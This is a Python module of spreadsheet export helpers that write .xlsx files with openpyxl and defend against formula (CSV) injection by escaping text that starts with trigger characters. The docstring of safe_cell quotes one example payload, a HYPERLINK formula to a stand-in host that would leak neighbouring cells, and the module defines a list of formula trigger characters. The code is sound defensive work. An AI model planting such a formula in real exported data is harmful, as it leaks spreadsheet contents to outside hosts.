"""Spreadsheet export helpers shared by every .xlsx the program writes (CONVENTIONS 16).

Written with openpyxl's ``write_only`` mode (rows are streamed, memory stays flat), with a bold,
frozen header row; every value passes through :func:`safe_cell` (security.md §7, §9 F8).
No queries here: callers hand in plain rows.

:func:`write_sheets` writes several such sheets into one workbook (the settlement's statements:
~83,500 voucher rows); only money and moments go into styled cells, which is what openpyxl
spends its time on.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import BinaryIO

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

#: Leading characters that make a spreadsheet program read a text as a formula (OWASP CSV
#: injection: = + - @, TAB, CR).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MONEY_FORMAT = "0.00"
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"


def safe_cell(value: object) -> object:
    """Neutralise formula injection in one exported value; non-text values pass unchanged.

    openpyxl stores any string that starts with ``=`` as a *formula* (``data_type == 'f'``),
    not as text, so a venue called ``=HYPERLINK("http://x/?"&A1,"点击")`` would become a live
    formula that Excel evaluates (and may use to leak neighbouring cells) the moment the file
    is opened. Excel, LibreOffice and WPS also treat a text typed or pasted with a leading
    ``+``, ``-``, ``@``, TAB or CR as a formula. Following OWASP, such a text gets a leading
    apostrophe (``'``): it is then stored and shown as plain text (the apostrophe stays
    visible; that is the price of safety, and it tells the reader the value was altered).

    Characters that XML 1.0 cannot carry (C0 controls other than TAB, LF, CR), which openpyxl
    would refuse with ``IllegalCharacterError``, are dropped, so one bad byte in a venue's
    remarks cannot make the whole export fail.
    """
    if not isinstance(value, str):
        return value
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def _cell(ws: object, value: object, *, bold: bool = False) -> WriteOnlyCell:
    cell = WriteOnlyCell(ws, value=safe_cell(value))
    if isinstance(value, Decimal):
        cell.number_format = MONEY_FORMAT
    elif isinstance(value, dt.datetime):
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, dt.date):
        cell.number_format = DATE_FORMAT
    if bold:
        cell.font = Font(bold=True)
    return cell


def write_table(
    path: Path | str | BinaryIO,
    sheet_title: str,
    headers: Sequence[str],
    rows: Iterable[Sequence[object]],
    column_widths: Sequence[float | None] | None = None,
) -> int:
    """Write one sheet: a bold, frozen header row, then ``rows``; return the number of rows.

    Values: ``str`` through :func:`safe_cell` (always text, never a formula); ``Decimal`` as a
    number with format ``0.00`` (money stays exact: openpyxl writes the Decimal's own digits);
    dates as dates (``yyyy-mm-dd``); ``None`` as an empty cell; ints and floats as numbers.
    ``column_widths`` (in Excel character units, ``None`` for the default) by position.
    A row longer or shorter than ``headers`` is a programming error (ValueError).
    """
    return write_sheets(path, [Sheet(sheet_title, headers, rows, column_widths or ())])[0]


# ------------------------------------------------------------------ workbooks of sheets


@dataclass(frozen=True)
class Sheet:
    """One sheet of :func:`write_sheets`: a bold, frozen header row, then ``rows``."""

    title: str
    headers: Sequence[str]
    rows: Iterable[Sequence[object]]
    column_widths: Sequence[float | None] = ()


def _plain(ws: object, value: object) -> object:
    """A value as it goes into a streamed row: text made safe, a number or moment in a styled
    cell only where it needs its format (a plain value costs openpyxl far less)."""
    if type(value) is str:
        return safe_cell(value)
    if isinstance(value, (Decimal, dt.date)):
        return _cell(ws, value)
    return value


def write_sheets(path: Path | str | BinaryIO, sheets: Sequence[Sheet]) -> list[int]:
    """Write a workbook of sheets as :func:`write_table` writes one; return their row counts.
    Rows are streamed (openpyxl ``write_only``), so big exports keep memory flat."""
    wb = Workbook(write_only=True)
    counts = []
    for sheet in sheets:
        ws = wb.create_sheet(title=sheet.title[:31])
        for index, width in enumerate(sheet.column_widths, start=1):
            if width is not None:
                ws.column_dimensions[get_column_letter(index)].width = width
        ws.freeze_panes = "A2"
        ws.append([_cell(ws, header, bold=True) for header in sheet.headers])
        count = 0
        for row in sheet.rows:
            if len(row) != len(sheet.headers):
                raise ValueError(f"row {count + 1} has {len(row)} values for "
                                 f"{len(sheet.headers)} columns")
            ws.append([_plain(ws, value) for value in row])
            count += 1
        counts.append(count)
    wb.save(path)
    return counts
